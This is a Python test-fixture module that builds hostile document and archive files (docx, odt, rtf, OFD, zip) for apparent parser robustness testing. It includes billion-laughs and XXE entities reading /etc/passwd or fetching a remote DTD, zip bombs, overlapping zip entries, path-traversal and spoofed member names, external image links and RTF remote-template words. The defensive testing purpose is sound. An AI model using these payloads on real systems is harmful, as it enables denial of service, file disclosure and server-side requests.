"""docx, odt, rtf, OFD and zips that hang, swell, reach out or mislead."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator, Mapping
from functools import partial

from hostile_file import Hostile
from PIL import Image

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="tif" ContentType="image/tiff"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd"><!ENTITY % k SYSTEM "http://192.0.2.1/x.dtd">%k;]>'


def packed(members: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as package:
        for name, data in members.items():
            package.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def docx(
    body: str, more: Mapping[str, bytes | str] | None = None, head: str = "", rels: str = ""
) -> bytes:
    return packed({
        "[Content_Types].xml": TYPES,
        "_rels/.rels": f'<Relationships {RELS}><Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": f"<Relationships {RELS}>{rels}</Relationships>",
        "word/document.xml": f"{head}<w:document {W}><w:body>{body}</w:body></w:document>",
        **(more or {}),
    })  # fmt: skip


def nested(opening: str, closing: str, depth: int, inner: str = "") -> str:
    return opening * depth + inner + closing * depth


def frames(count: int, side: int, suffix: str) -> bytes:
    out = io.BytesIO()
    first = Image.new("L", (side, side), "white")
    first.save(out, suffix, save_all=True, append_images=[first.copy() for _ in range(count - 1)])
    return out.getvalue()


def docx_with_pictures(count: int, of_frames: int, side: int) -> bytes:
    rels = "".join(
        f'<Relationship Id="p{n}" Type="{OFFICE}/image" Target="media/{n}.tif"/>'
        for n in range(count)
    )
    data = frames(of_frames, side, "TIFF")
    return docx("<w:p/>", {f"word/media/{n}.tif": data for n in range(count)}, rels=rels)


def odt(content: str, head: str = "") -> bytes:
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{of}:1.0"'
        for name, of in (
            ("office", "office"),
            ("text", "text"),
            ("draw", "drawing"),
            ("svg", "svg-compatible"),
            ("table", "table"),
        )
    )
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(
            zipfile.ZipInfo("mimetype"),
            "application/vnd.oasis.opendocument.text",
            zipfile.ZIP_STORED,
        )
        package.writestr(
            "content.xml",
            f'{head}<office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>{content}</office:text></office:body></office:document-content>',
        )
        package.writestr("META-INF/manifest.xml", manifest)
    return out.getvalue()


def ofd(
    content: str,
    pages: int = 1,
    more: Mapping[str, bytes | str] | None = None,
    area: str = "0 0 210 297",
    head: str = "",
) -> bytes:
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    listed = "".join(
        f'<ofd:Page ID="{n + 10}" BaseLoc="Pages/Page_0/Content.xml"/>' for n in range(pages)
    )
    return packed({
        "OFD.xml": f'<ofd:OFD {space} Version="1.0"><ofd:DocBody><ofd:DocInfo/><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot><ofd:Signatures>Doc_0/Signs/Signatures.xml</ofd:Signatures></ofd:DocBody></ofd:OFD>',
        "Doc_0/Document.xml": f'<ofd:Document {space}><ofd:CommonData><ofd:MaxUnitID>9</ofd:MaxUnitID><ofd:PageArea><ofd:PhysicalBox>{area}</ofd:PhysicalBox></ofd:PageArea><ofd:TemplatePage ID="2" BaseLoc="Tpls/T.xml"/></ofd:CommonData><ofd:Pages>{listed}</ofd:Pages></ofd:Document>',
        "Doc_0/Pages/Page_0/Content.xml": f"{head}<ofd:Page {space}>{content}</ofd:Page>",
        **(more or {}),
    })  # fmt: skip


def text(deltas: str, words: str = "答复", boundary: str = "10 10 100 10", size: str = "5") -> str:
    return f'<ofd:Content><ofd:Layer ID="3"><ofd:TextObject ID="4" Boundary="{boundary}" Font="1" Size="{size}"><ofd:TextCode X="0" Y="5" DeltaX="{deltas}">{words}</ofd:TextCode></ofd:TextObject></ofd:Layer></ofd:Content>'


def signs(count: int) -> dict[str, bytes | str]:
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    stamps = '<ofd:StampAnnot ID="1" PageRef="10" Boundary="10 10 40 40"/>' * count
    return {
        "Doc_0/Signs/Signatures.xml": f'<ofd:Signatures {space}><ofd:Signature ID="1" BaseLoc="Sign_0/Signature.xml"/></ofd:Signatures>',
        "Doc_0/Signs/Sign_0/Signature.xml": f"<ofd:Signature {space}><ofd:SignedInfo>{stamps}</ofd:SignedInfo></ofd:Signature>",
    }


def tree(width: int, depth: int) -> bytes:
    data = b"x" * 100
    for level in range(depth):
        data = packed({f"{n}.{'zip' if level else 'txt'}": data for n in range(width)})
    return data


def overlapping(count: int) -> bytes:
    """Every member's entry in the directory points at the same packed bytes."""
    whole = packed({"a.txt": bytes(10**6)})
    start = whole.index(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    entry = whole[start:end]
    tail = bytearray(whole[end:])
    tail[8:12] = count.to_bytes(2, "little") * 2
    tail[12:16] = (len(entry) * count).to_bytes(4, "little")
    return whole[:start] + entry * count + bytes(tail)


def files() -> Iterator[Hostile]:
    yield from _office()
    yield from _ofds()
    yield from _packed()


def _office() -> Iterator[Hostile]:
    for depth in (50, 500, 5000):
        table = nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", depth, "<w:p/>")
        yield Hostile(f"tables-{depth}.docx", "tables in tables", partial(docx, table))
        yield Hostile(
            f"boxes-{depth}.docx",
            "content controls in each other",
            partial(docx, nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", depth)),
        )
        yield Hostile(
            f"table-{depth}.odt",
            "tables in tables",
            partial(
                odt,
                nested(
                    "<table:table><table:table-row><table:table-cell>",
                    "</table:table-cell></table:table-row></table:table>",
                    depth,
                ),
            ),
        )
        yield Hostile(
            f"layers-{depth}.ofd",
            "blocks in blocks",
            partial(ofd, nested("<ofd:PageBlock>", "</ofd:PageBlock>", depth)),
        )
        yield Hostile(
            f"groups-{depth}.rtf",
            "groups in groups",
            lambda depth=depth: b"{\\rtf1 " + b"{" * depth + b"}" * depth + b"}",
        )
    for count, of_frames, side in ((1, 500, 8), (60, 100, 8), (60, 1, 64), (200, 20, 8)):
        yield Hostile(
            f"pictures-{count}x{of_frames}.docx",
            "pictures of very many frames",
            partial(docx_with_pictures, count, of_frames, side),
        )
    for count in (1000, 20000):
        yield Hostile(
            f"paragraphs-{count}.docx",
            "very many paragraphs",
            partial(docx, "<w:p><w:r><w:t>甲</w:t></w:r></w:p>" * count),
        )
        yield Hostile(
            f"parts-{count // 20}.docx",
            "very many parts",
            partial(
                docx, "<w:p/>", {f"word/header{n}.xml": f"<w:hdr {W}/>" for n in range(count // 20)}
            ),
        )
        yield Hostile(
            f"many-{count // 20}.zip",
            "very many members",
            lambda count=count: packed({f"{n}.txt": "x" for n in range(count // 20)}),
        )
        yield Hostile(
            f"pages-{count}.ofd", "pages that are one file", partial(ofd, text(""), count)
        )
    for name, make in (
        ("docx", partial(docx, "<w:p><w:r><w:t>&j;</w:t></w:r></w:p>")),
        ("odt", partial(odt, "<text:p>&j;</text:p>")),
        ("ofd", partial(ofd, text("", "&j;"))),
    ):
        yield Hostile(
            f"laughs.{name}", "an entity that grows to gigabytes", partial(make, head=LAUGHS)
        )
        yield Hostile(
            f"outside.{name}", "an entity that lies elsewhere", partial(make, head=OUTSIDE)
        )
    for target in (
        "http://192.0.2.1/a.png",
        "file:///etc/passwd",
        "\\\\192.0.2.1\\a\\b.png",
        "../../../etc/passwd",
    ):
        yield Hostile(
            f"link-{len(target)}.odt",
            "a picture elsewhere",
            partial(
                odt,
                f'<text:p><draw:frame><draw:image xlink:href="{target}"/></draw:frame></text:p>',
            ),
        )
        yield Hostile(
            f"link-{len(target)}.docx",
            "a picture elsewhere",
            partial(
                docx,
                "<w:p/>",
                rels=f'<Relationship Id="x" Type="{OFFICE}/image" Target="{target}" TargetMode="External"/>',
            ),
        )
        yield Hostile(
            f"link-{len(target)}.rtf",
            "a picture elsewhere",
            lambda target=target: (
                r"{\rtf1 {\field{\*\fldinst INCLUDEPICTURE " + target.replace("\\", "\\\\") + r"}}}"
            ).encode(),
        )
    yield Hostile(
        "altchunk-itself.docx",
        "a chunk that is the document",
        partial(
            docx,
            '<w:altChunk xmlns:r="' + OFFICE + '" r:id="x"/>',
            rels=f'<Relationship Id="x" Type="{OFFICE}/aFChunk" Target="document.xml"/>',
        ),
    )
    for size in (10**7, 10**8):
        yield Hostile(
            f"bomb-{size}.docx",
            "a part that unpacks to much",
            lambda size=size: docx("<w:p/>", {"word/media/1.tif": bytes(size)}),
        )
        yield Hostile(
            f"bomb-{size}.zip",
            "a member that unpacks to much",
            lambda size=size: packed({"a.txt": bytes(size)}),
        )
        yield Hostile(
            f"bomb-{size}.ofd",
            "a part that unpacks to much",
            lambda size=size: ofd(text(""), more={"Doc_0/Res/a.png": bytes(size)}),
        )


def _ofds() -> Iterator[Hostile]:
    for deltas in (
        "g 100000 0",
        "g 99999999 1",
        "g -1 0",
        "g 1e9 0",
        "nan",
        "inf 1",
        "1e308 " * 50,
        "g 5000 0 " * 500,
        "1 " * 20000,
    ):
        yield Hostile(
            f"deltas-{len(deltas)}-{deltas[:4].strip()}.ofd",
            "distances without end",
            partial(ofd, text(deltas, "答" * 200)),
        )
    for boundary in (
        "nan nan nan nan",
        "0 0 1e9 1e9",
        "inf 0 1 1",
        "-1e308 0 1e308 1",
        "",
        "a b c d",
    ):
        yield Hostile(
            f"boundary-{boundary[:3].strip() or 'none'}-{len(boundary)}.ofd",
            "a place that is none",
            partial(ofd, text("5", boundary=boundary)),
        )
        yield Hostile(
            f"area-{boundary[:3].strip() or 'none'}-{len(boundary)}.ofd",
            "a page that is none",
            partial(ofd, text("5"), area=boundary),
        )
    for size in ("0", "-5", "1e9", "nan"):
        yield Hostile(
            f"size-{size}.ofd", "letters of that size", partial(ofd, text("5", size=size))
        )
    for count in (10, 1000, 20000):
        yield Hostile(
            f"stamps-{count}.ofd", "stamps without end", partial(ofd, text(""), 5, signs(count))
        )
    yield Hostile(
        "template-itself.ofd",
        "a template that uses itself",
        partial(
            ofd,
            '<ofd:Template TemplateID="2"/>' * 5000,
            50,
            {
                "Doc_0/Tpls/T.xml": '<ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Template TemplateID="2"/>'
                + text("g 5000 1", "答")
                + "</ofd:Page>"
            },
        ),
    )


def _packed() -> Iterator[Hostile]:
    for width, depth in ((10, 3), (10, 4), (3, 8), (1, 30)):
        yield Hostile(f"tree-{width}-{depth}.zip", "zips in zips", partial(tree, width, depth))
    for count in (100, 2000):
        yield Hostile(
            f"overlap-{count}.zip", "members that share their bytes", partial(overlapping, count)
        )
    for name in (
        "../../etc/x.txt",
        "/etc/x.txt",
        "C:\\x.txt",
        "a\x00b.txt",
        "a" * 5000 + ".txt",
        "\u202etxt.exe",
        "CON.txt",
        "\x1b[2J.txt",
    ):
        yield Hostile(
            f"name-{len(name)}-{ord(name[0])}.zip",
            "a member of that name",
            lambda name=name: packed({name: "答复"}),
        )
    for size in (4, 22, 30, 100):
        yield Hostile(
            f"cut-{size}.zip", "cut short", lambda size=size: packed({"a.txt": "x" * 50})[:size]
        )
    for start in (b"Rar!\x1a\x07\x00", b"Rar!\x1a\x07\x01\x00", b"7z\xbc\xaf\x27\x1c"):
        for fill in (b"\x00", b"\xff", b"A"):
            yield Hostile(
                f"broken-{start[:3].hex()}-{len(start)}-{fill.hex()}.bin",
                "an archive of nothing",
                lambda start=start, fill=fill: start + fill * 500,
            )
    for fill in (b"\x00", b"\xff", b"\x01"):
        yield Hostile(
            f"compound-{fill.hex()}.doc",
            "a compound file of nothing",
            lambda fill=fill: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + fill * 5000,
        )
    for word in (
        b"\\object\\objautlink\\objupdate",
        b"\\*\\template http://192.0.2.1/a.dot",
        b"\\bin999999999 x",
        b"\\u-99999999",
        b"\\pict\\wbitmap0\\picw99999\\pich99999 " + b"00" * 500,
        b"\\trowd\\cellx1 " * 3000,
    ):
        yield Hostile(
            f"word-{len(word)}.rtf", "a control word", lambda word=word: b"{\\rtf1 {" + word + b"}}"
        )
